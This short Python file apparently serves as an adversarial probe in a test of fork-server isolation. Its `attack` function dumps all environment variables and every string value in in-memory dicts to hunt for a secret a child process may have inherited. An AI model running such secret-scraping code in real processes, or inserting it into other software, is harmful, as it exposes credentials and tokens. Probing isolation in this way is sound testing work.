"""Search every object in memory for something that looks like the secret."""

from __future__ import annotations

import gc
import os

ORIGIN = "A fork server's memory is inherited by every child."
SEEN = "secret"


def attack(target):
    texts = [dict(os.environ)]
    for thing in gc.get_objects():
        if isinstance(thing, dict):
            texts += [value for value in list(thing.values()) if isinstance(value, (str, bytes))]
    return texts[:100_000] and "".join(map(str, texts))
